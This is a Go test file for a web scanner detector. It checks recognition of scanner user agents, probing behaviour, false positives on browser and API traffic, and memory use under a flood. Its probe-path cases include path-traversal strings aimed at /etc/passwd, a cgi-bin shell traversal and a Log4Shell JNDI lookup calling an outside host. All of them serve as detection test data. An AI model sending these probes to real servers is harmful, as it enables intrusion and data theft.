package detect

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"runtime"
	"testing"
	"time"

	"github.com/customernode/gatekeeper/detect/behavior"
	"github.com/customernode/gatekeeper/internal/testutil"
)

func newDetector(t testing.TB, c *testutil.Clock) *Detector {
	t.Helper()
	sigs, err := DefaultSignatures()
	if err != nil {
		t.Fatal(err)
	}
	cfg := Config{UserAgents: sigs.UserAgents, ScannerHeaders: sigs.ScannerHeaders, ProbePaths: sigs.ProbePaths}
	if c != nil {
		cfg.Now = c.Now
	}
	return New(cfg)
}

// inspect is Inspect for a request to the tenant its Host names, arriving
// now on the detector's clock: the tests' shorthand.
func (d *Detector) inspect(r *http.Request, src netip.Addr, asn uint) Result {
	return d.Inspect(r, r.Host, src, asn, d.behavior.Now())
}

const firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

func browserRequest(target string) *http.Request {
	r := httptest.NewRequest("GET", "http://acme.example.com"+target, nil)
	r.RequestURI = target // origin form, as a server receives it
	r.Header.Set("User-Agent", firefox)
	r.Header.Set("Accept", "text/html,application/xhtml+xml,*/*;q=0.8")
	r.Header.Set("Accept-Language", "en-US,en;q=0.5")
	return r
}

var src = netip.MustParseAddr("198.51.100.7")

// testTenant is the tenant of the tests' requests (their Host).
const testTenant = "acme.example.com"

// observe feeds the answer to a request for path from src back into its
// behaviour; the tenant is testTenant, the Host of the tests' requests.
func (d *Detector) observe(src netip.Addr, path string, status int) {
	now := d.behavior.Clock()
	d.served.note(d.behavior.TenantHash(testTenant), path, status, now)
	d.behavior.OnResponse(src, now, path, status, 0, false, d.behavior.TenantHash(testTenant), false, false)
}

// The user agents and headers scanners send, as their sources document them.
func TestScannerSignaturesAreRecognised(t *testing.T) {
	d := newDetector(t, nil)
	cases := []struct {
		ua     string
		header string
		family string
	}{
		{ua: "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", family: "nikto"},
		{ua: "sqlmap/1.8.2#stable (https://sqlmap.org)", family: "sqlmap"},
		{ua: "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", family: "nuclei"},
		{ua: "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", family: "wpscan"},
		{ua: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", family: "nmap"},
		{ua: "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", family: "masscan"},
		{ua: "Mozilla/5.0 zgrab/0.x", family: "zgrab"},
		{ua: "gobuster/3.6", family: "gobuster"},
		{ua: "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", family: "dirbuster"},
		{ua: "Fuzz Faster U Fool v2.1.0-dev", family: "ffuf"},
		{ua: "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", family: "censys"},
		{ua: firefox, header: "Acunetix-Product", family: "acunetix"},
		{ua: firefox, header: "X-Scanner", family: "invicti"},
	}
	// Twice each, in turn with a browser: the second answer comes from the
	// user-agent cache, which must not carry one agent's verdict to another.
	for round := range 2 {
		for _, tc := range cases {
			r := browserRequest("/")
			r.Header.Set("User-Agent", tc.ua)
			if tc.header != "" {
				r.Header.Set(tc.header, "1")
			}
			res := d.inspect(r, src, 0)
			if !d.Scanner(res.Score) || res.Family != tc.family {
				t.Errorf("round %d, UA %q header %q: score %d family %q signals %v; want a %s scanner",
					round, tc.ua, tc.header, res.Score, res.Family, res.Signals.Names(), tc.family)
			}
			if res := d.inspect(browserRequest("/"), src, 0); res.Signals.Has(SignalUserAgent) || res.Family != "" {
				t.Errorf("round %d, a browser after %q: signals %v family %q", round, tc.ua, res.Signals.Names(), res.Family)
			}
		}
	}
}

func TestTokensMatchOnlyWholeWords(t *testing.T) {
	d := New(Config{UserAgents: []Signature{{Kind: "strong", Pattern: "vega", Family: "vega", Source: "test"}}})
	for ua, want := range map[string]bool{
		"Mozilla/5.0 (veganism.social bot)": false,
		"Mozilla/5.0 Vegas/1.0":             false,
		"Mozilla/5.0 (Vega scanner)":        true,
		"VEGA/1.0":                          true,
	} {
		r := browserRequest("/")
		r.Header.Set("User-Agent", ua)
		if got := d.inspect(r, src, 0).Signals.Has(SignalUserAgent); got != want {
			t.Errorf("%q matched = %v, want %v", ua, got, want)
		}
	}
}

func TestProbePathsAreRecognised(t *testing.T) {
	d := newDetector(t, nil)
	cases := []struct {
		target string
		signal Signal
	}{
		{"/.env", SignalSensitivePath},
		{"/app/.git/config", SignalSensitivePath},
		{"/backup.sql", SignalSensitivePath},
		{"/wp-config.php.bak", SignalSensitivePath},
		{"/static/..%2f..%2fetc/passwd", SignalTraversal},
		{"/download?file=../../../../etc/passwd", SignalTraversal},
		{"/download?file=%2e%2e%2f%2e%2e%2fwin.ini", SignalTraversal},
		{"/img/%252e%252e/%252e%252e/etc/hosts", SignalTraversal},
		{"/wp-login.php", SignalAdminProbe},
		{"/phpMyAdmin/index.php", SignalAdminProbe},
		{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", SignalCVEProbe},
		{"/cgi-bin/.%2e/.%2e/.%2e/bin/sh", SignalCVEProbe},
		{"/?x=${jndi:ldap://198.51.100.9/a}", SignalCVEProbe},
	}
	for _, tc := range cases {
		res := d.inspect(browserRequest(tc.target), netip.MustParseAddr("203.0.113.50"), 0)
		if !res.Signals.Has(tc.signal) {
			t.Errorf("%s: signals %v, want %s", tc.target, res.Signals.Names(), tc.signal)
		}
	}
}

// Generic clients and odd headers are weak signals: they never make a
// scanner on their own, and a browser request is clean.
func TestCommonClientsAreNotScanners(t *testing.T) {
	d := newDetector(t, nil)
	cases := map[string]func(*http.Request){
		"browser":         func(*http.Request) {},
		"curl":            func(r *http.Request) { r.Header.Set("User-Agent", "curl/8.5.0"); r.Header.Set("Accept", "*/*") },
		"python-requests": func(r *http.Request) { r.Header.Set("User-Agent", "python-requests/2.31.0") },
		"Go client":       func(r *http.Request) { r.Header.Set("User-Agent", "Go-http-client/1.1"); r.Header.Del("Accept") },
		"no user agent":   func(r *http.Request) { r.Header.Del("User-Agent"); r.Header.Del("Accept"); r.Host = "192.0.2.1" },
	}
	for name, change := range cases {
		r := browserRequest("/api/v1/orders")
		change(r)
		res := d.inspect(r, netip.MustParseAddr("192.0.2.77"), 0)
		if d.Scanner(res.Score) {
			t.Errorf("%s: score %d (%v) reaches the threshold", name, res.Score, res.Signals.Names())
		}
		if name == "browser" && res.Signals != 0 {
			t.Errorf("a plain browser request has signals %v", res.Signals.Names())
		}
	}
}

// A scanner with a browser user agent is caught by what it does.
func TestBehaviourCatchesAScannerWithABrowserUserAgent(t *testing.T) {
	c := testutil.NewClock(time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC))
	d := newDetector(t, c)
	paths := []string{"/", "/admin", "/.env", "/backup", "/.git/config", "/old", "/phpinfo.php", "/test", "/server-status", "/db"}
	caught := 0
	for i, p := range paths {
		res := d.inspect(browserRequest(p), src, 0)
		if d.Scanner(res.Score) {
			caught = i + 1
			break
		}
		d.observe(src, p, 404)
		c.Add(50 * time.Millisecond)
	}
	// /.env, /.git/config, /phpinfo.php: the probe bucket (3 a minute) runs
	// over at the fourth probe, /server-status, request 9.
	if caught == 0 || caught > 9 {
		t.Fatalf("a probe walk was caught at request %d, want by the fourth probe (request 9)", caught)
	}

	// Too many 404s on ordinary paths, too. (Paths are remembered in a
	// Bloom filter, which may take a new path for one seen before now and
	// then: 14 leaves room for that.)
	other := netip.MustParseAddr("198.51.100.8")
	for i := range 14 {
		d.observe(other, fmt.Sprintf("/page-%d", i), 404)
	}
	if res := d.inspect(browserRequest("/page-x"), other, 0); !res.Signals.Has(SignalNotFound) {
		t.Fatalf("14 404s in a row: %v", res.Signals.Names())
	}
	// Buckets leak: the same source is clean again after a while.
	c.Add(time.Minute)
	if res := d.inspect(browserRequest("/page-y"), other, 0); res.Signals.Has(SignalNotFound) {
		t.Fatalf("the 404 bucket did not leak: %v", res.Signals.Names())
	}
}

// A browser session (a page, its assets, a missing favicon) and an API
// client making many requests are never taken for scanners.
func TestBrowsingAndAPITrafficStayClean(t *testing.T) {
	c := testutil.NewClock(time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC))
	d := newDetector(t, c)
	browser := netip.MustParseAddr("192.0.2.10")
	for range 20 {
		for _, p := range []string{"/", "/static/app.css", "/static/app.js", "/img/logo.png", "/favicon.ico"} {
			res := d.inspect(browserRequest(p), browser, 0)
			if d.Scanner(res.Score) {
				t.Fatalf("browser flagged on %s: %v", p, res.Signals.Names())
			}
			status := 200
			if p == "/favicon.ico" {
				status = 404
			}
			d.observe(browser, p, status)
		}
		c.Add(2 * time.Second)
	}
	api := netip.MustParseAddr("192.0.2.11")
	for i := range 500 {
		r := browserRequest(fmt.Sprintf("/api/v1/orders/%d", i%7))
		r.Header.Set("User-Agent", "curl/8.5.0")
		if res := d.inspect(r, api, 0); d.Scanner(res.Score) {
			t.Fatalf("API client flagged at request %d: %v", i, res.Signals.Names())
		}
		d.observe(api, r.URL.Path, 200)
		c.Add(20 * time.Millisecond)
	}
}

func TestIPv6SourcesAreTrackedByTheirPrefix(t *testing.T) {
	d := newDetector(t, nil)
	for i := range 14 {
		d.observe(netip.MustParseAddr(fmt.Sprintf("2001:db8:1:2::%x", i+1)), fmt.Sprintf("/page-%d", i), 404)
	}
	if res := d.inspect(browserRequest("/y"), netip.MustParseAddr("2001:db8:1:2:ffff::1"), 0); !res.Signals.Has(SignalNotFound) {
		t.Fatalf("404s spread over one /64 were not added up: %v", res.Signals.Names())
	}
	if n := d.Tracker().Len(); n != 1 {
		t.Fatalf("tracked %d sources for one /64", n)
	}
}

// A flood from 2 000 000 distinct sources keeps memory bounded by the
// default cap of 1 000 000 sources, at most 64 bytes a source, and a
// scanner hidden in the flood is still caught.
func TestFloodKeepsMemoryBoundedAndStillCatchesTheScanner(t *testing.T) {
	if testing.Short() {
		t.Skip("2 000 000 requests")
	}
	c := testutil.NewClock(time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC))
	sigs, _ := DefaultSignatures()
	d := New(Config{UserAgents: sigs.UserAgents, ProbePaths: sigs.ProbePaths, Now: c.Now})
	scanner := netip.MustParseAddr("203.0.113.66")
	probes := []string{"/.env", "/.git/config", "/wp-config.php.bak", "/backup.sql", "/phpinfo.php"}
	r := browserRequest("/")
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	caught := false
	for i := range 2_000_000 {
		ip := netip.AddrFrom4([4]byte{10, byte(i >> 16), byte(i >> 8), byte(i)})
		d.inspect(r, ip, 0)
		if i%50_000 == 0 { // the scanner's probe walk, spread thin through the flood
			if res := d.inspect(browserRequest(probes[(i/50_000)%len(probes)]), scanner, 0); d.Scanner(res.Score) {
				caught = true
			}
		}
		if i%1000 == 0 {
			c.Add(time.Millisecond)
		}
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	n := d.Tracker().Len()
	grew := int64(after.HeapAlloc) - int64(before.HeapAlloc) + int64(d.Tracker().Bytes())
	t.Logf("tracked %d sources after 2 000 000; the tracker holds %.1f MiB, the heap grew %.1f MiB: %.0f B a source",
		n, float64(d.Tracker().Bytes())/(1<<20), float64(int64(after.HeapAlloc)-int64(before.HeapAlloc))/(1<<20), float64(grew)/float64(n))
	if n > behavior.DefaultMaxSources {
		t.Fatalf("tracked %d sources, over the cap of %d", n, behavior.DefaultMaxSources)
	}
	if per := float64(grew) / float64(n); per > 64 {
		t.Fatalf("%.0f B a source for %d sources; want at most 64", per, n)
	}
	if !caught {
		t.Fatal("the scanner hidden in the flood was not caught")
	}
}

// BenchmarkInspectBrowserNoQuery is detection on a benign browser request
// without a query or body (the cost bound of issue 9: ≤ 1 µs, no
// allocation).
func BenchmarkInspectBrowserNoQuery(b *testing.B) {
	d := newDetector(b, nil)
	r := browserRequest("/products/garden-chair")
	r.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36")
	b.ReportAllocs()
	for b.Loop() {
		if res := d.inspect(r, src, 0); res.Score != 0 {
			b.Fatal(res.Signals.Names())
		}
	}
}

// BenchmarkInspectBrowser is detection on a benign browser request from a
// source already tracked.
func BenchmarkInspectBrowser(b *testing.B) {
	d := newDetector(b, nil)
	r := browserRequest("/products/42?ref=home")
	r.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36")
	b.ReportAllocs()
	for b.Loop() {
		if res := d.inspect(r, src, 0); res.Score != 0 {
			b.Fatal(res.Signals.Names())
		}
	}
}
